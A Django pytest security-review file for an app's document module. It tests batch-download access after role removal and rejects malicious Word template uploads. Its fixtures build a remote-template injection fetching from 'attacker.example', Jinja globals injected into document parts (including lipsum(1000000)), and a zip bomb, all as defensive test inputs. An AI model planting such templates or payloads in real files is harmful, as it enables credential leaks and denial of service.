"""Security review: documents views (batches, uploaded Word templates)."""

from __future__ import annotations

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from danhgia.accounts.models import RoleAssignment
from danhgia.documents import engine
from danhgia.documents.models import DocumentJob, DocumentTemplate, JobState


def _upload(client, unit, code: str, data: bytes, name: str = "mau-tinh.docx"):
    return client.post(
        reverse("documents-templates", args=[unit.pk]), {"code": code, "file": SimpleUploadedFile(name, data)}
    )


def _patched(code: str, edit) -> bytes:
    """The bundled template with its zip parts changed by `edit(parts: dict[str, bytes])`."""
    source = zipfile.ZipFile(io.BytesIO((engine.BUNDLED / f"mau-{code}.docx").read_bytes()))
    parts = {info.filename: source.read(info.filename) for info in source.infolist()}
    edit(parts)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


def test_a_batch_is_not_handed_out_once_its_requester_lost_the_scope(docs, client_for):
    world = docs.world
    secretary = world.users["secretary_a"]
    client = client_for(secretary)
    client.post(reverse("documents-batch", args=[world.period.pk, docs.cell.pk]), {"formats": ["pdf"]},
                HTTP_HX_REQUEST="true")  # fmt: skip
    job = DocumentJob.objects.get(created_by=secretary)
    assert job.state == JobState.DONE
    # The secretary is relieved of the post: every page of the cell is refused to them from now on …
    RoleAssignment.objects.filter(user=secretary).delete()
    assert client.get(reverse("reviews-unit", args=[world.period.pk, docs.cell.pk])).status_code == 404
    assert client.get(reverse("documents-review", args=[docs.review.pk, "ban-kiem-diem", "pdf"])).status_code == 404
    # … but the zip holding every form of the cell is still theirs to download.
    response = client.get(reverse("documents-job-file", args=[job.pk]))
    status = response.status_code
    response.close()
    assert status == 404


def test_a_template_fetching_a_remote_template_is_refused(docs, client_for):
    # "Remote template injection": Word fetches the attached template from the address when the file is opened
    # (credential leak over SMB/WebDAV, a macro template); every member's form would carry it.
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )

    def edit(parts):
        parts["word/_rels/settings.xml.rels"] = rels
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"<w:zoom", b'<w:attachedTemplate r:id="rId99"/><w:zoom', 1
        )

    data = _patched("2B", edit)
    assert b"attachedTemplate" in zipfile.ZipFile(io.BytesIO(data)).read("word/settings.xml")
    client = client_for(docs.world.users["officer"])
    response = _upload(client, docs.world.province, "2B", data)
    assert response.status_code == 400
    assert not DocumentTemplate.objects.exists()


def test_fields_outside_the_checked_parts_are_refused_too(docs, client_for):
    # docxtpl renders the core properties and footnotes with Jinja as well, but the fields check reads the body,
    # headers and footers only: an unknown field (or a Jinja global: range, lipsum, cycler …) goes unnoticed.
    def edit(parts):
        parts["docProps/core.xml"] = parts["docProps/core.xml"].replace(
            b"<dc:title/>", b"<dc:title>{{ ho_va_ten }}{{ range(3)|list|length }}</dc:title>"
        )

    client = client_for(docs.world.users["officer"])
    response = _upload(client, docs.world.province, "2B", _patched("2B", edit))
    assert response.status_code == 400, "a template with an unknown field was accepted"
    assert not DocumentTemplate.objects.exists()


def test_a_jinja_global_in_the_body_is_an_unknown_field(docs, client_for):
    # Without Jinja's globals a template has only our fields: lipsum(10**6) is refused on upload, never rendered.
    def edit(parts):
        parts["word/document.xml"] = parts["word/document.xml"].replace(
            b"{{ co_quan }}", b"{{ co_quan }}{{ lipsum(1000000) }}", 1
        )

    client = client_for(docs.world.users["officer"])
    response = _upload(client, docs.world.province, "2B", _patched("2B", edit))
    assert response.status_code == 400 and "«lipsum»" in response.content.decode()
    assert not DocumentTemplate.objects.exists()


def test_a_zip_bomb_is_refused_before_it_is_read(docs, client_for):
    def edit(parts):
        parts["word/media/big.bin.txt"] = b"0" * (engine.MAX_UNPACKED_BYTES + 1)

    client = client_for(docs.world.users["officer"])
    response = _upload(client, docs.world.province, "2B", _patched("2B", edit))
    assert response.status_code == 400 and "quá lớn khi giải nén" in response.content.decode()
